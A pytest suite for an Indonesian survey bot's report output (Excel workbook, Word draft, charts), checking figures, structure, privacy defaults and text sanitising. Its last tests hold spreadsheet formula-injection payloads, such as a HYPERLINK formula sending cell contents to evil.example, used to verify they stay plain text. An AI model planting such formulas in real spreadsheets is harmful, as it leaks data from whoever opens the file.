"""The report files as staff open them: the workbook in Excel, the draft in Word, the charts."""

from __future__ import annotations

import gc
import json
import re
import struct
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import docx
import openpyxl
import pytest
from matplotlib.figure import Figure

from analysis import texts
from analysis.periods import MONTHS_ID
from analysis.report import NoResponses, ReportFiles, ReportRequest, build_report, build_workbook
from analysis.report_xlsx import SHEETS
from survey.questionnaire import Questionnaire
from tests.support.analysis_fixtures import JANUARY_2025, SERVICES, SurveyDb, january_2025
from tests.support.documents import cell_types, docx_text, xlsx_cells, xlsx_rows, xlsx_text

REPO = Path(__file__).resolve().parent.parent
SUGGESTION = str(JANUARY_2025[0]["suggestion"])
LATE_SUGGESTION = "Mohon waktu pelayanan dipercepat."
PERSONAL = [
    str(row["identity"][key]) for row in JANUARY_2025 for key in ("name", "institution")
] + ["Eko Terlambat", "CV Terlambat Jaya"]
UNIT = "Direktorat Uji Coba"


def printed_by(script: str, timeout: float) -> Any:
    """Runs ``script`` in a fresh interpreter (warnings as errors); returns the JSON it printed."""
    done = subprocess.run(
        [sys.executable, "-W", "error", "-c", script],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@dataclass(frozen=True)
class Built:
    db: Path
    default: ReportFiles
    personal: ReportFiles
    empty: ReportFiles
    cpob: ReportFiles


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, questionnaire: Questionnaire) -> Built:
    root = tmp_path_factory.mktemp("report")
    survey = january_2025(root / "survey.db")
    survey.add("2024-11", "2024-11-05T00:00:00+00:00", default_score=3)
    survey.add(  # a 3rd person in January with a quota of 2 persons: kept, reported beyond quota
        "2025-01",
        "2025-01-30T09:00:00+00:00",
        service="cpob_impor",
        default_score=1,
        identity={"name": "Eko Terlambat", "institution": "CV Terlambat Jaya"},
        suggestion=LATE_SUGGESTION,
    )

    def build(name: str, period: str = "2025-01", **options: Any) -> ReportFiles:
        return build_report(
            ReportRequest(survey.path, period, questionnaire, SERVICES, 2, **options), root / name
        )

    return Built(
        db=survey.path,
        default=build("default"),
        personal=build("personal", include_personal=True, unit_name=UNIT),
        empty=build("empty", "2023-03"),
        cpob=build("cpob", service="cpob"),
    )


def style(paragraph: Any) -> str:
    return str(paragraph.style.name) if paragraph.style is not None else ""


def as_listed(paragraph: Any) -> str:
    """A heading as the table of contents lists it: "BAB I PENDAHULUAN", set on two lines."""
    return " ".join(paragraph.text.split())


def chapter(path: Path, heading: str) -> str:
    """The text under a level-1 heading, up to the next one."""
    found, inside = [], False
    for paragraph in docx.Document(str(path)).paragraphs:
        if style(paragraph) == "Heading 1":
            inside = as_listed(paragraph) == heading
        elif inside:
            found.append(paragraph.text)
    return "\n".join(found)


# -- workbook ---------------------------------------------------------------------------------


def test_workbook_has_the_staff_sheets_in_order(built: Built) -> None:
    book = openpyxl.load_workbook(built.default.xlsx, read_only=True)
    try:
        assert book.sheetnames == list(SHEETS)
    finally:
        book.close()
    assert SHEETS == ("Ringkasan", "Per unsur", "Per layanan", "Demografi", "Responden", "Saran")


def test_summary_sheet_shows_ipp_3_92_and_its_category(built: Built) -> None:
    rows = xlsx_rows(built.default.xlsx, "Ringkasan")

    ipp = next(r for r in rows if r[0] == "Indeks Persepsi Pelayanan Publik (IPP)")
    ipak = next(r for r in rows if r[0] == "Indeks Persepsi Anti Korupsi (IPAK)")
    assert ipp[1:4] == (3.92, 97.92, "Memuaskan")
    assert ipp[4] == "U3, U4 (3,67)"
    assert ipak[1:4] == (4.0, 100.0, "Bersih dari korupsi")
    assert ("Responden dihitung (orang)", 2) in [r[:2] for r in rows]
    assert ("Isian dihitung (seluruh isian responden)", 3) in [r[:2] for r in rows]
    assert ("Isian di luar kuota", 1) in [r[:2] for r in rows]
    assert ("Periode", "Januari 2025") in [r[:2] for r in rows]


CONVERSION_NOTE = (
    "*) Nilai konversi adalah indeks × 25 yang dihitung dari indeks sebelum pembulatan, "
    "sehingga dapat berbeda sedikit dari indeks yang ditampilkan dikali 25. Contoh: IPP "
    "3,9167 × 25 = 97,92, bukan 3,92 × 25 = 98,00."
)


def test_converted_value_is_explained_once_in_the_draft_and_on_the_summary_sheet(
    built: Built,
) -> None:
    # The reference converts the unrounded index (97,92): a reader multiplying the shown 3,92
    # by 25 gets 98,00 and needs to be told why it differs.
    lines = [p.text for p in docx.Document(str(built.default.docx)).paragraphs]
    rows = xlsx_rows(built.default.xlsx, "Ringkasan")
    header = next(r for r in rows if r[0] == "Indeks")
    ipak = next(n for n, r in enumerate(rows) if r[0] == "Indeks Persepsi Anti Korupsi (IPAK)")

    assert lines.count(CONVERSION_NOTE) == 1
    note = lines.index(CONVERSION_NOTE)
    assert "(dari skala 4; nilai konversi*) 97,92)" in lines[note - 1]  # under Tabel 1's IPP
    assert lines.index("Tabel 1. Hasil SPKP Bulan Januari 2025") < note
    assert note < lines.index("b. Indeks Persepsi Anti Korupsi")
    assert [line for line in lines if "nilai konversi*) 100,00)" in line]  # IPAK: same mark
    assert header[2] == "Nilai konversi*)"
    assert rows[ipak + 1][:2] == (CONVERSION_NOTE, None)  # under the index table
    assert [r for r in rows if r[0] == CONVERSION_NOTE] == [rows[ipak + 1]]


def test_month_without_index_has_no_conversion_note(built: Built) -> None:
    text = docx_text(built.empty.docx) + xlsx_text(built.empty.xlsx)

    assert "*)" not in text and "sebelum pembulatan" not in text


def test_item_and_service_sheets(built: Built) -> None:
    items = {r[0]: r for r in xlsx_rows(built.default.xlsx, "Per unsur")}
    services = {r[0]: r for r in xlsx_rows(built.default.xlsx, "Per layanan")}

    assert items["U3"][2:8] == (3.67, 3, 0, 0, 1, 2)
    assert items["P1"][2] == 4.0
    # respondents (persons), counted submissions, beyond quota, then the indices
    assert services["cpob"][2:7] == (2, 2, 0, 3.88, "Memuaskan")
    assert services["cpob_impor"][2:7] == (0, 0, 1, "–", "–")


def test_workbook_numbers_are_numbers_shown_as_the_report_shows_them(built: Built) -> None:
    # Staff sum, sort and chart these cells: text such as '3,67' would defeat all three.
    book = openpyxl.load_workbook(built.default.xlsx)
    try:
        summary = {row[0].value: row for row in book["Ringkasan"].iter_rows()}
        items = {row[0].value: row for row in book["Per unsur"].iter_rows()}
        services = {row[0].value: row for row in book["Per layanan"].iter_rows()}
        genders = {row[0].value: row for row in book["Demografi"].iter_rows()}
    finally:
        book.close()
    ipp = summary["Indeks Persepsi Pelayanan Publik (IPP)"]
    u3 = items["U3"]
    women = genders["Perempuan"]

    # the rounded values the report prints (3,92; 97,92; 3,67), stored as numbers
    assert [(c.value, c.data_type, c.number_format) for c in ipp[1:3]] == [
        (3.92, "n", "0.00"),
        (97.92, "n", "0.00"),
    ]
    lke = summary["IPP"][1]  # (3 + 3.9166…) / 2, November 2024 and January 2025
    assert (lke.value, lke.number_format) == (3.46, "0.00")
    assert (u3[2].value, u3[2].number_format, u3[3].value) == (3.67, "0.00", 3)
    assert (services["cpob"][5].value, services["cpob"][5].number_format) == (3.88, "0.00")
    assert services["cpob"][2].value == 2 and services["cpob"][2].number_format == "General"
    # 1 of the 2 counted respondents (persons): the share, not the text '50,0%'
    assert women[1].value == 1
    assert women[2].value == pytest.approx(1 / 2) and women[2].number_format == "0.0%"
    assert genders["Jumlah responden"][1].value == 2


def test_submission_times_are_the_surveys_clock_time(
    built: Built, questionnaire: Questionnaire, tmp_path: Path
) -> None:
    # Stored 2025-01-10T02:15Z: the CSV export and the respondent's phone said 09:15 WIB.
    rows = xlsx_rows(built.default.xlsx, "Responden")
    assert rows[2][:3] == ("No", "Waktu kirim (WIB)", "Layanan")
    assert rows[3][1] == datetime(2025, 1, 10, 9, 15)

    papua = build_workbook(
        ReportRequest(built.db, "2025-01", questionnaire, SERVICES, 3, zone="Asia/Jayapura"),
        tmp_path / "wit",
    )
    assert xlsx_rows(papua, "Responden")[2][1] == "Waktu kirim (WIT)"
    assert xlsx_rows(papua, "Responden")[3][1] == datetime(2025, 1, 10, 11, 15)

    # Half past midnight in Jakarta is the evening before in UTC: the day shown is Jakarta's.
    survey = SurveyDb(tmp_path / "night.db")
    survey.add("2026-10", "2026-10-02T17:30:03.000000+00:00")
    night = build_workbook(
        ReportRequest(
            survey.path, "2026-10", questionnaire, SERVICES, 30, zone=ZoneInfo("Asia/Jakarta")
        ),
        tmp_path,
    )
    assert xlsx_rows(night, "Responden")[3][1] == datetime(2026, 10, 3, 0, 30, 3)


def test_suggestions_are_listed_with_their_quota_status(built: Built) -> None:
    rows = xlsx_rows(built.default.xlsx, "Saran")

    assert rows[1][-2:] == ("Saran", "Keterangan")
    listed = {r[-2]: r[2] for r in rows[2:]}
    assert listed == {SUGGESTION: "Ya", LATE_SUGGESTION: "Tidak"}
    assert [r[-1] for r in rows[2:]] == [None, None]  # neither a placeholder nor about SPAK


def test_draft_quotes_the_respondents_suggestions_after_the_ipp_results(built: Built) -> None:
    # Where the reference puts them (BAB III A.a); the one sent after the quota was full is
    # counted apart, not quoted as a respondent's.
    document = docx.Document(str(built.default.docx))
    paragraphs = [p.text for p in document.paragraphs]
    results = chapter(built.default.docx, "BAB III PENGOLAHAN SURVEI")
    at = paragraphs.index(
        "Saran dan masukan yang disampaikan responden pada periode Januari 2025, sebanyak "
        "1 (satu), yaitu:"
    )

    assert paragraphs[at - 2].startswith(
        "Berdasarkan hasil SPKP periode Januari 2025, diperoleh IPP"
    )
    assert paragraphs[at - 1] == CONVERSION_NOTE  # the IPP's converted value explained
    quoted = document.paragraphs[at + 1]
    assert (quoted.text, style(quoted)) == (
        f"{SUGGESTION} (Sertifikasi/Resertifikasi CPOB)",
        "List Number",
    )
    assert paragraphs[at + 2].startswith(
        "Selain itu, 1 (satu) saran disampaikan melalui isian di luar kuota."
    )
    assert paragraphs[at + 3] == "b. Indeks Persepsi Anti Korupsi"
    assert SUGGESTION in results
    assert LATE_SUGGESTION not in docx_text(built.default.docx)


@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("default", {}),
        ("personal", {"include_personal": True, "unit_name": UNIT}),
        ("cpob", {"service": "cpob"}),
    ],
)
def test_workbook_alone_is_the_reports_workbook_and_nothing_else(
    built: Built, questionnaire: Questionnaire, tmp_path: Path, name: str, options: Any
) -> None:
    # What /export sends: the report's workbook, without drawing the charts or the draft.
    report: ReportFiles = getattr(built, name)
    out = tmp_path / "out"

    path = build_workbook(
        ReportRequest(built.db, "2025-01", questionnaire, SERVICES, 2, **options), out
    )

    assert list(out.iterdir()) == [path]
    assert path.name == report.xlsx.name
    assert xlsx_cells(path) == xlsx_cells(report.xlsx)


def test_workbook_alone_imports_neither_charts_nor_word(built: Built, tmp_path: Path) -> None:
    script = f"""
import json, sys
from survey.questionnaire import load
from analysis.report import ReportRequest, build_workbook
request = ReportRequest({str(built.db)!r}, "2025-01", load(), {SERVICES!r}, 3)
build_workbook(request, {str(tmp_path)!r})
print(json.dumps(sorted(m for m in sys.modules if m == "analysis.charts"
                        or m.split(".")[0] in ("matplotlib", "docx", "telegram"))))
"""
    assert printed_by(script, timeout=60) == []
    assert [p.name for p in tmp_path.iterdir()] == ["data-spkp-spak-2025-01.xlsx"]


# -- personal data ----------------------------------------------------------------------------


def test_names_and_institutions_are_left_out_by_default(built: Built) -> None:
    text = docx_text(built.default.docx) + xlsx_text(built.default.xlsx)

    assert [name for name in PERSONAL if name in text] == []
    assert "tidak dicantumkan" in chapter(built.default.docx, "Lampiran 1. Data Responden")
    assert "tidak dicantumkan" in xlsx_rows(built.default.xlsx, "Responden")[1][0]


INCLUDE_PERSONAL = (
    "Untuk mencantumkannya, atur [reports] include_personal = true pada konfigurasi bot lalu "
    "buat ulang laporan. Laporan dengan data pribadi hanya untuk petugas yang menangani data "
    "pribadi responden."
)


def test_left_out_names_say_how_to_include_them_and_who_may_see_them(built: Built) -> None:
    appendix = chapter(built.default.docx, "Lampiran 1. Data Responden").splitlines()
    sheet = xlsx_rows(built.default.xlsx, "Responden")

    assert appendix[0] == (
        "Nama responden dan nama instansi/perusahaan tempat bekerja tidak dicantumkan karena "
        f"merupakan data pribadi. {INCLUDE_PERSONAL}"
    )
    assert sheet[1][0] == (
        "Nama dan instansi responden tidak dicantumkan karena merupakan data pribadi. "
        f"{INCLUDE_PERSONAL}"
    )
    assert "include_personal = true" in texts.text("common.include_personal", "en")


def test_a_file_with_names_says_who_may_see_it(built: Built) -> None:
    said = (
        "Berisi data pribadi responden: hanya untuk petugas yang menangani data pribadi responden."
    )

    assert chapter(built.personal.docx, "Lampiran 1. Data Responden").splitlines()[0] == said
    assert xlsx_rows(built.personal.xlsx, "Responden")[1][0] == said


def test_names_appear_with_include_personal(built: Built) -> None:
    document = docx.Document(str(built.personal.docx))
    appendix = document.tables[-1]
    respondents = xlsx_text(built.personal.xlsx)

    assert [c.text for c in appendix.rows[0].cells][:3] == ["No", "Nama", "Usia"]
    # one row per person: the one who answered two services once, with both services
    assert [row.cells[1].text for row in appendix.rows[1:]] == [
        "Bambang Sutrisno",
        "Citra Lestari",
    ]
    assert [c.text for c in appendix.rows[0].cells][-1] == "Layanan"
    assert appendix.rows[1].cells[-1].text == (
        "Sertifikasi/Resertifikasi CPOB; Surat Keterangan Penerapan CPOB"
    )
    assert all(name in respondents for name in PERSONAL[:-1])  # counted respondents
    assert "Eko Terlambat" in [r[3] for r in xlsx_rows(built.personal.xlsx, "Saran")]
    assert UNIT in docx_text(built.personal.docx)


# -- report draft -----------------------------------------------------------------------------


def test_draft_follows_the_reference_structure(built: Built) -> None:
    document = docx.Document(str(built.default.docx))
    headings = [as_listed(p) for p in document.paragraphs if style(p) == "Heading 1"]

    assert [h for h in headings if h.startswith("BAB")] == [
        "BAB I PENDAHULUAN",
        "BAB II METODOLOGI SURVEI",
        "BAB III PENGOLAHAN SURVEI",
        "BAB IV DATA SURVEI",
        "BAB V PENUTUP",
    ]
    assert headings[0] == "KATA PENGANTAR"
    assert headings[-2:] == ["BAB V PENUTUP", "Lampiran 1. Data Responden"]
    level2 = [p.text for p in document.paragraphs if style(p) == "Heading 2"]
    assert level2[:3] == [
        "A. Kriteria Responden",
        "B. Metode Pencacahan",
        "C. Metode Pengolahan Data dan Analisis",
    ]
    assert "B. Tindak Lanjut Hasil Survei" in level2
    assert "[Kata Pengantar – diisi oleh unit kerja" in chapter(
        built.default.docx, "KATA PENGANTAR"
    )


def test_draft_reports_the_reference_numbers_with_decimal_commas(built: Built) -> None:
    text = docx_text(built.default.docx)
    method = chapter(built.default.docx, "BAB II METODOLOGI SURVEI")

    assert "Tabel 1. Hasil SPKP Bulan Januari 2025" in text
    assert (
        "IPP sebesar 3,92 (dari skala 4; nilai konversi*) 97,92) yang dikategorikan “Memuaskan”"
        in text
    )
    assert "Respon/kecepatan pelayanan (U3) dan Penanganan pengaduan (U4)" in text
    assert "IPAK sebesar 4,00" in text and "“Bersih dari korupsi”" in text
    assert "3.92" not in text and "3.67" not in text
    assert "30 penerima layanan pertama" not in method  # the quota is the configured one
    assert "2 penerima layanan pertama yang mengisi survei" in method
    assert "Surat Keterangan Penerapan CPOB" in method
    assert "rata-rata dari nilai 3 bulan terakhir" in method
    assert "Tabel 3. Daftar Pertanyaan Survei SPKP dan SPAK" in text
    assert "Bagaimana penilaian Saudara mengenai kemudahan prosedur/alur pelayanan?" in text


def test_lke_months_are_said_alike_in_workbook_and_draft(
    built: Built, questionnaire: Questionnaire, tmp_path: Path
) -> None:
    # November 2024 and January 2025 have data, December 2024 none: the value averages two
    # months of a three-month window, and neither file may say it averages all three.
    basis = (
        "Periode 3 bulan: November 2024–Januari 2025; bulan yang berisi data dan dirata-ratakan: "
        "November 2024 dan Januari 2025."
    )
    rows = xlsx_rows(built.default.xlsx, "Ringkasan")
    lke = [r[:3] for r in rows if r[0] in ("IPP", "IPAK")]

    assert lke == [
        ("IPP", 3.46, "November 2024 dan Januari 2025"),
        ("IPAK", 3.5, "November 2024 dan Januari 2025"),
    ]
    assert (basis,) in [r[:1] for r in rows]
    assert (
        "Nilai LKE PMPZI, yaitu rata-rata dari nilai 3 bulan terakhir, adalah IPP 3,46 dan IPAK "
        f"3,50. {basis}"
    ) in docx_text(built.default.docx)

    survey = SurveyDb(tmp_path / "october.db")
    survey.add("2026-10", "2026-10-02T01:00:00+00:00")
    october = build_workbook(
        ReportRequest(survey.path, "2026-10", questionnaire, SERVICES, 30), tmp_path
    )
    assert (
        "Periode 3 bulan: Agustus–Oktober 2026; bulan yang berisi data dan dirata-ratakan: "
        "Oktober 2026.",
    ) in [r[:1] for r in xlsx_rows(october, "Ringkasan")]


def test_question_groups_and_follow_up_use_the_references_words(built: Built) -> None:
    document = docx.Document(str(built.default.docx))
    [questions] = [t for t in document.tables if t.rows[0].cells[1].text == "Pertanyaan"]
    groups = [r.cells[0].text for r in questions.rows if r.cells[0].text == r.cells[-1].text]
    paragraphs = [p.text for p in document.paragraphs]
    follow_up = paragraphs[paragraphs.index("B. Tindak Lanjut Hasil Survei") :]

    assert groups == ["Kualitas Pelayanan Publik", "Persepsi Anti Korupsi"]
    assert [p for p in follow_up if p[:2] in ("1)", "2)")] == [
        "1) Hasil SPKP",
        "2) Hasil Survei SPAK",
    ]


def test_no_placeholder_sits_inside_another(built: Built) -> None:
    # Without a configured unit name, "[nama unit kerja]" must not land inside "[Diisi …]".
    def depth(line: str) -> int:
        deepest = level = 0
        for character in line:
            level += {"[": 1, "]": -1}.get(character, 0)
            deepest = max(deepest, level)
        return deepest

    lines = docx_text(built.default.docx).splitlines()

    assert [line for line in lines if depth(line) > 1] == []
    assert (
        "[Diisi oleh unit kerja: tugas dan fungsi unit kerja serta layanan publik utamanya.]"
        in (lines)
    )
    assert "[Diisi oleh unit kerja: tugas dan fungsi Direktorat Uji Coba serta" in docx_text(
        built.personal.docx
    )


def test_closing_chapter_names_the_reports_month_and_no_other(built: Built) -> None:
    closing = chapter(built.default.docx, "BAB V PENUTUP")
    months = re.findall(rf"(?:{'|'.join(MONTHS_ID)})\s+\d{{4}}", closing)

    assert months and set(months) == {"Januari 2025"}
    assert "MEMUASKAN" in closing and "BERSIH DARI KORUPSI" in closing
    assert "JANUARI 2025" in docx_text(built.default.docx)  # the cover


def test_foreign_terms_are_in_italics_as_in_the_reference(built: Built) -> None:
    document = docx.Document(str(built.default.docx))
    runs = [run for p in document.paragraphs for run in p.runs]

    italic = {run.text for run in runs if run.italic and not run.text.startswith("[")}
    assert italic == {"continuous improvement", "stakeholder"}


def test_single_service_report(built: Built) -> None:
    summary = built.cpob.summary

    assert list(summary["services"]) == ["cpob"]
    assert summary["responses"] == 2
    assert summary["ipp"]["display"] == "3,88"
    assert "Layanan: Sertifikasi/Resertifikasi CPOB" in docx_text(built.cpob.docx)
    assert built.cpob.docx.name == "laporan-spkp-spak-2025-01-cpob.docx"


def test_single_service_report_says_the_quota_and_lke_are_the_units(
    questionnaire: Questionnaire, tmp_path: Path
) -> None:
    # Quota 3 across services: CPOB 2 counted and 1 after the quota, Surat Keterangan 1 counted.
    survey = SurveyDb(tmp_path / "survey.db")
    survey.add("2024-12", "2024-12-05T01:00:00+00:00", service="suket_cpob", default_score=2)
    survey.add("2025-01", "2025-01-02T01:00:00+00:00", service="cpob")
    survey.add("2025-01", "2025-01-03T01:00:00+00:00", service="cpob", scores={"U3": 3})
    survey.add("2025-01", "2025-01-04T01:00:00+00:00", service="suket_cpob", default_score=3)
    survey.add("2025-01", "2025-01-05T01:00:00+00:00", service="cpob", default_score=1)

    files = build_report(
        ReportRequest(
            survey.path, "2025-01", questionnaire, SERVICES, 3, service="cpob", unit_name=UNIT
        ),
        tmp_path,
    )
    text = docx_text(files.docx)
    summary = xlsx_rows(files.xlsx, "Ringkasan")

    assert (
        "Kuota 3 responden per bulan berlaku untuk seluruh layanan Direktorat Uji Coba "
        "bersama-sama, bukan per layanan: pada periode Januari 2025 diterima 4 (empat) isian "
        "survei dari seluruh layanan, dan 3 (tiga) penerima layanan pertama dijadikan sebagai "
        "responden. Untuk layanan Sertifikasi/Resertifikasi CPOB diterima 3 (tiga) isian survei; "
        "2 (dua) di antaranya, dari 2 (dua) responden, dihitung, sedangkan 1 (satu) isian "
        "diterima setelah kuota unit kerja terpenuhi sehingga tidak dihitung (di luar kuota)."
    ) in chapter(files.docx, "BAB IV DATA SURVEI")
    assert "a. Jika dalam 1 bulan jumlah penerima layanan kurang dari 3 pelanggan" in text
    # the service's values are the service's, and said to be
    assert docx.Document(str(files.docx)).core_properties.title == (
        "Laporan Analisis SPKP dan SPAK Januari 2025 – Layanan Sertifikasi/Resertifikasi CPOB"
    )
    assert (
        "Direktorat Uji Coba untuk layanan Sertifikasi/Resertifikasi CPOB mendapatkan nilai SPKP "
        "sebesar 3,94" in text
    )
    assert summary[0][0] == (
        "Ringkasan SPKP dan SPAK – Januari 2025 – Layanan Sertifikasi/Resertifikasi CPOB"
    )
    # LKE PMPZI is the unit's, over every service: (2 + 3.625) / 2, not CPOB's own 3,94
    assert (
        "Nilai LKE PMPZI dihitung untuk unit kerja dari seluruh layanan, bukan per layanan. Nilai "
        "LKE PMPZI Direktorat Uji Coba, yaitu rata-rata dari nilai 3 bulan terakhir, adalah IPP "
        "2,81 dan IPAK 2,83."
    ) in text
    lke_header = next(r for r in summary if str(r[0]).startswith("Nilai LKE PMPZI"))
    assert (
        lke_header[0] == "Nilai LKE PMPZI unit kerja, seluruh layanan (rata-rata 3 bulan terakhir)"
    )
    assert ("IPP", 2.81) in [r[:2] for r in summary]
    assert files.summary["lke"]["ipp"] == 2.8125
    assert files.summary["ipp"]["display"] == "3,94"


def test_the_months_submissions_are_weighed_against_the_quota_once(built: Built) -> None:
    # BAB IV A applies BAB II A's criteria to the month, as the reference does; nowhere else.
    text = docx_text(built.default.docx)
    said = (
        "Pada periode Januari 2025 diterima 4 (empat) isian survei. Sesuai dengan kriteria "
        "responden, 2 (dua) penerima layanan pertama dijadikan sebagai responden dan seluruh "
        "isian mereka (3 (tiga)) dihitung, sedangkan 1 (satu) isian diterima setelah kuota 2 "
        "responden terpenuhi sehingga tidak dihitung (di luar kuota)."
    )

    assert text.count("isian survei.") == 1
    assert said in chapter(built.default.docx, "BAB IV DATA SURVEI")


@pytest.mark.parametrize("build", [build_report, build_workbook], ids=["report", "workbook"])
@pytest.mark.parametrize(
    ("period", "service", "beyond_quota"),
    [("2030-01", None, 0), ("2023-03", None, 0), ("2025-01", "cpob_impor", 1)],
    ids=["future", "past", "service-beyond-quota-only"],
)
def test_month_without_counted_responses_can_be_refused_before_any_file(
    tmp_path: Path,
    built: Built,
    questionnaire: Questionnaire,
    build: Callable[..., object],
    period: str,
    service: str | None,
    beyond_quota: int,
) -> None:
    # Nothing to report: no draft saying the unit "telah melaksanakan SPKP", no empty charts.
    out = tmp_path / "out"
    with pytest.raises(NoResponses, match=f"no counted responses for {period}") as refused:
        build(
            ReportRequest(built.db, period, questionnaire, SERVICES, 2, service=service),
            out,
            allow_empty=False,
        )

    assert not out.exists()
    assert (refused.value.period, refused.value.service) == (period, service)
    assert refused.value.summary["responses"] == 0
    assert refused.value.summary["beyond_quota"] == beyond_quota


def test_empty_month_still_gives_a_complete_draft_unless_refused(built: Built) -> None:
    # The default, for callers that have not asked to refuse: bot/cli/main.py `_report` today.
    text = docx_text(built.empty.docx)

    assert built.empty.summary["responses"] == 0
    assert "Belum ada responden yang dihitung pada periode Maret 2023" in text
    assert "BAB V\nPENUTUP" in text
    assert xlsx_rows(built.empty.xlsx, "Ringkasan")[10][1] == "–"  # the IPP, after the counts


@pytest.mark.parametrize("build", [build_report, build_workbook], ids=["report", "workbook"])
@pytest.mark.parametrize(
    ("period", "options", "message"),
    [
        ("2025-01", {"service": "x"}, "not one of"),
        ("2025-1", {}, "YYYY-MM"),
        ("2025-01", {"zone": "Asia/Batavia"}, "time zone 'Asia/Batavia' is not known"),
    ],
)
def test_unknown_service_zone_or_bad_period_is_refused_before_any_file(
    tmp_path: Path,
    built: Built,
    questionnaire: Questionnaire,
    build: Callable[..., object],
    period: str,
    options: dict[str, Any],
    message: str,
) -> None:
    out = tmp_path / "out"
    with pytest.raises(ValueError, match=message):
        build(ReportRequest(built.db, period, questionnaire, SERVICES, 3, **options), out)
    assert not out.exists()


# -- charts -----------------------------------------------------------------------------------


def test_charts_are_sensible_pngs(built: Built) -> None:
    files = built.default.charts

    assert list(files) == ["gender", "age", "education", "occupation", "items", "trend"]
    for path in files.values():
        data = path.read_bytes()
        assert data[:8] == b"\x89PNG\r\n\x1a\n", path
        width, height = struct.unpack(">II", data[16:24])
        assert 600 <= width <= 3000 and 300 <= height <= 2000, (path, width, height)
        assert len(data) > 10_000, path
    assert files["gender"].name == "gambar-1-jenis-kelamin-spkp-spak-2025-01.png"


def test_no_figure_outlives_the_report(built: Built) -> None:
    gc.collect()
    assert [o for o in gc.get_objects() if isinstance(o, Figure)] == []
    assert "matplotlib.pyplot" not in sys.modules


def test_report_imports_neither_pyplot_nor_telegram(built: Built, tmp_path: Path) -> None:
    script = f"""
import json, sys
from survey.questionnaire import load
from analysis.report import ReportRequest, build_report
request = ReportRequest({str(built.db)!r}, "2025-01", load(), {SERVICES!r}, 3)
build_report(request, {str(tmp_path)!r})
print(json.dumps(sorted(m for m in sys.modules if m == "matplotlib.pyplot"
                        or m.split(".")[0] in ("telegram", "aiosqlite"))))
"""
    assert printed_by(script, timeout=120) == []


def test_summary_alone_stays_light(built: Built) -> None:
    # `surveibot report --json` and the bot's summary need neither pandas nor matplotlib.
    script = f"""
import json, sys
from survey.questionnaire import load
from analysis.summary import summarize
summarize({str(built.db)!r}, "2025-01", load(), {SERVICES!r}, 3)
print(json.dumps(sorted(m for m in ("pandas", "matplotlib") if m in sys.modules)))
"""
    assert printed_by(script, timeout=60) == []


# -- respondents' text (issue 11, points 4 and 5) -------------------------------------------------

# As old rows may hold them: stored before the bot cleaned what respondents type.
CONTROL_NAME = "Bu\x0bdi\x1b[0m Santoso\uffff"
CONTROL_INSTITUTION = "PT\x1b Maju\x0b Jaya\x7f"
CONTROL_SUGGESTION = "Antrian\x00 lebih\x0bcepat\x1b\uffff"
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "institution": "+62 812 3456",
    "suggestion": '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
}
MORE_FORMULAS = ("-Budi", "@SUM(A1)", "\tTab Jaya", "=1+1")


def january_with(folder: Path, name: str, institution: str, suggestion: str) -> SurveyDb:
    """January 2025 in folder/survey.db, and one more submission written with these texts."""
    survey = january_2025(folder / "survey.db")
    identity = {"name": name, "institution": institution}
    survey.add("2025-01", "2025-01-20T03:00:00+00:00", identity=identity, suggestion=suggestion)
    return survey


def test_control_characters_in_stored_text_cannot_break_the_report(
    tmp_path: Path, questionnaire: Questionnaire
) -> None:
    survey = january_with(tmp_path, CONTROL_NAME, CONTROL_INSTITUTION, CONTROL_SUGGESTION)
    files = build_report(
        ReportRequest(survey.path, "2025-01", questionnaire, SERVICES, 5, include_personal=True),
        tmp_path / "out",
    )
    cleaned = ("Bu di[0m Santoso", "PT Maju  Jaya", "Antrian lebih cepat")
    for found in (docx_text(files.docx), xlsx_text(files.xlsx)):
        assert all(text in found for text in cleaned)
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", found)
    assert all(path.stat().st_size > 1000 for path in files.charts.values())


def test_respondent_text_that_looks_like_a_formula_stays_plain_text(
    tmp_path: Path, questionnaire: Questionnaire
) -> None:
    survey = january_with(
        tmp_path, FORMULAS["name"], FORMULAS["institution"], FORMULAS["suggestion"]
    )
    for n, text in enumerate(MORE_FORMULAS):
        survey.add(
            "2025-01",
            f"2025-01-2{n + 1}T03:00:00+00:00",
            identity={"name": text, "institution": text},
            suggestion=f"{text} saran",
        )
    path = build_workbook(
        ReportRequest(survey.path, "2025-01", questionnaire, SERVICES, 10, include_personal=True),
        tmp_path,
    )
    cells = cell_types(path)
    expected = [
        ("Responden", FORMULAS["name"]),
        ("Responden", FORMULAS["institution"]),
        ("Saran", FORMULAS["name"]),
        ("Saran", FORMULAS["suggestion"]),
        *(("Responden", text) for text in MORE_FORMULAS),
        *(("Saran", f"{text} saran".strip()) for text in MORE_FORMULAS),
    ]
    assert {key: cells.get(key) for key in expected} == {key: "s" for key in expected}
    assert "f" not in cells.values()
